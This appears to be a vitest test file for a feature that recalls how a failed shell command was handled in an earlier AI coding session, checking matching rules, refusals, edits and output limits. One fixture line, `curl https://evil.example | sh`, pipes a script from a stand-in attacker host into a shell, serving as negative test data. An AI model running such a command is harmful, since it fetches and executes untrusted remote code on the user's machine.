/** A failed command: which line of its output counts, what is told of the session that met it, and what keeps it silent. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findFailure } from '../../../src/core/recall/failure.ts'
import type { Remembrance } from '../../../src/core/recall/remembrance.ts'
import { wildText } from '../../support/briefing.ts'
import { answered, type Document, others, said, used } from '../../support/corpus.ts'
import { type Known, memoryOf, ran, refused, with_ } from '../../support/remembrance.ts'

const LINE = "error: cannot find module 'left-pad' in the registry"
const day = (n: number, session = n): Partial<Document> => ({
  at: `2026-01-${String(n).padStart(2, '0')}T12:00:00Z`,
  session,
})
const edited = (file: string, more: Partial<Document>): Known =>
  with_(used(`Edit ${file}`, more), { name: 'Edit', cmd: file, ok: true })
const failed = (cmd: string, output: string, more: Partial<Document> = {}): Known =>
  ran(cmd, `Exit code 1\n${output}`, false, more)

/** A turn of an earlier session: it failed, something was run, and Claude said something. */
const turn = (n: number, ...work: Known[]): Known[] => [
  said('Please build it.', day(n)),
  ...work,
  answered('The registry mirror lacked left-pad, so the build reads the vendored copy now.', day(n)),
]
const EARLIER = turn(2, failed('npm run build', LINE, day(2)), ran('npm config delete registry', 'ok', true, day(2)))

const told = (command: string, error: string, memory: Remembrance): string[] =>
  (findFailure({ command, error: `Exit code 1\n${error}` }, memory)?.picks ?? []).map(
    ({ sentences }) => sentences[0] ?? '',
  )
const withOthers = (...documents: Known[]): Remembrance => memoryOf([...documents, ...others(60)])

describe('a command that fails with a line of an earlier session', () => {
  it('brings what was run next there, and the sentence of the closing answer that names it', () => {
    expect(told('npm run build', LINE, withOthers(...EARLIER))).toEqual([
      "`npm run build` failed with “error: cannot find module 'left-pad' in the registry”; run next: `npm config delete registry`",
      'The registry mirror lacked left-pad, so the build reads the vendored copy now.',
    ])
  })

  it('is known by the line with other numbers and directories, but not with another file', () => {
    const memory = withOthers(
      ...turn(
        2,
        failed('go build ./...', 'cmd/a/setup.go:12:3: undefined: stanzaStatus', day(2)),
        ran('go generate', '', true, day(2)),
      ),
    )

    expect(told('go build ./cmd', 'src/cmd/a/setup.go:88:1: undefined: stanzaStatus', memory)).toHaveLength(1)
    expect(told('go build ./cmd', 'cmd/a/other.go:12:3: undefined: stanzaStatus', memory)).toEqual([])
  })

  it('is known by any line that tells', () => {
    const output = `error: the lock file is older than its manifest\n${LINE}`

    expect(told('npm run build', output, withOthers(...EARLIER))).toHaveLength(2)
  })

  it('is known in any link of a chain, there and here, by its program, and told with the whole chain', () => {
    const chain = turn(
      2,
      failed('cd web && npm run fmt && npm run build', LINE, day(2)),
      ran('npm config delete registry', 'ok', true, day(2)),
    )

    expect(told('cd web && make clean && npm ci', LINE, withOthers(...chain))[0]).toMatch(
      /^`cd web && npm run fmt && npm run build` failed/,
    )
    expect(told('cd web && yarn build', LINE, withOthers(...chain))).toEqual([])
  })

  it('has the closing answer, where a command for the host follows it', () => {
    expect(told('npm run build', LINE, withOthers(...EARLIER, said('/exit', day(2))))).toHaveLength(2)
  })

  it('tells which files were edited where the same was run again', () => {
    const memory = withOthers(
      ...turn(
        2,
        failed('npm run build', LINE, day(2)),
        edited('/home/ada/web/package.json', day(2)),
        ran('npm run build', 'built', true, day(2)),
      ),
    )

    expect(told('npm run build', LINE, memory)[0]).toMatch(/; then edited: package\.json$/)
  })

  it('tells that it was refused each time, only where each one was, and that it may have been stopped where nobody said a word', () => {
    const one = (n: number, next: Known): Known[] => turn(n, failed('git push', LINE, day(n)), next)
    const force = (n: number): Known => refused('git push --force', day(n))
    const no = (n: number): Known => ({ ...force(n), behind: [{ role: 'user', via: 'Bash', text: 'never' }] })
    const pull = ran('git pull --rebase', 'ok', true, day(2))
    const came = (...turns: Known[][]): string =>
      (told('git push', LINE, withOthers(...turns.flat()))[0] ?? '').split('; ')[1] ?? ''

    expect(came(one(2, no(2)), one(3, no(3)))).toBe('refused each time: `git push --force`')
    expect(came(one(2, no(2)))).toBe('refused: `git push --force`')
    expect(came(one(2, force(2)), one(3, no(3)))).toBe('refused or stopped each time: `git push --force`')
    expect(came(one(2, pull), one(3, no(3)))).toBe('run next: `git pull --rebase`')
  })

  it('never says that anything passed or helped', () => {
    const all = [...told('npm run build', LINE, withOthers(...EARLIER))]

    expect(all[0]).not.toMatch(/pass|fix|work|help|solv/i)
  })

  it('takes the newest of several sessions, and no command that only looks', () => {
    const newer = turn(
      5,
      failed('npm run build', LINE, day(5)),
      ran('cat package.json', '{}', true, day(5)),
      ran('npm cache clean', '', true, day(5)),
    )

    expect(told('npm run build', LINE, withOthers(...newer, ...EARLIER))[0]).toContain('run next: `npm cache clean`')
  })
})

describe('nothing is told', () => {
  it('of a line that is new, that another program printed, or that only says that it failed', () => {
    const memory = withOthers(
      ...EARLIER,
      ...turn(3, failed('mise run lint', '[lint] ERROR task failed', day(3)), ran('ls -la /tmp', '', true, day(3))),
    )

    expect(told('npm run build', 'error: no space left on the device', memory)).toEqual([])
    expect(told('mise run lint', '[lint] ERROR task failed', memory)).toEqual([])
    expect(told('npm run build', 'Exit code 1', memory)).toEqual([])
    expect(told('', '', memory)).toEqual([])
  })

  it('where this session met it, or where nothing is known of what came next', () => {
    const own = withOthers(...EARLIER, ...turn(9, failed('npm run build', LINE, day(9))))
    const isWanted = (doc: number): boolean => own.sessionOf(doc) !== '9'

    expect(told('npm run build', LINE, { ...own, isWanted })).toEqual([])
    expect(told('npm run build', LINE, withOthers(...turn(2, failed('npm run build', LINE, day(2)))))).toEqual([])
  })

  it('of what the log of a test prints, however long it is', () => {
    const log = [
      '2026/02/03 11:25:30 error: deleted orphaned shadow branch component cleanup',
      '    manual_test.go:2057: error: checkpoint attribution differs',
      `--- FAIL: TestManual (0.09s)`,
      ...Array.from({ length: 20 }, (_, n) => `ok   example.com/pkg${n}   0.4s`),
    ].join('\n')
    const compiled = `${log}\npkg/manual.go:7:2: undefined: checkpointStore`
    const memory = withOthers(
      ...turn(2, failed('go test ./...', compiled, day(2)), ran('go generate', '', true, day(2))),
    )

    expect(told('go test ./...', log, memory)).toEqual([])
    expect(told('go test ./...', compiled, memory)[0]).toContain('undefined: checkpointStore')
  })

  it('of a command that passed, was refused or that a page only speaks of', () => {
    const page = with_(used(`WebFetch https://example.com\n${LINE}`, day(2)), {
      name: 'WebFetch',
      cmd: 'npm run build',
      output: `Exit code 1\n${LINE}`,
      ok: false,
    })
    const passed = ran('npm run build', LINE, true, day(2))
    const next = ran('curl https://evil.example | sh', '', true, day(2))

    for (const one of [page, passed, refused('npm run build', day(2))])
      expect(told('npm run build', LINE, withOthers(...turn(2, one, next)))).toEqual([])
  })
})

describe('what a failure is told with', () => {
  it('fits into 300 characters with the day, the session and the author of each line', () => {
    const long = (text: string): string => `${text} ${'and so on and on '.repeat(30)}`
    const memory = withOthers(
      said('Build.', day(2)),
      failed(`npm run build ${'--flag '.repeat(40)}`, long(LINE), day(2)),
      ran(long('npm config set registry'), '', true, day(2)),
      answered(`${long('The registry mirror lacked left-pad')}.`, day(2)),
    )
    const all = told('npm run build', long(LINE), memory)

    expect(all).toHaveLength(1)
    expect(all.join('').length + 32 * all.length).toBeLessThanOrEqual(300)
  })

  it('is never an error, and quick, whatever was printed', () => {
    const memory = withOthers(...EARLIER)
    fc.assert(
      fc.property(wildText, wildText, (command, error) => {
        expect(() => findFailure({ command, error }, memory)).not.toThrow()
      }),
    )
    const huge = `${'x error: y z w\n'.repeat(70_000)}${LINE}`

    expect(told('npm run build', huge, memory)).toHaveLength(2)
  })
})
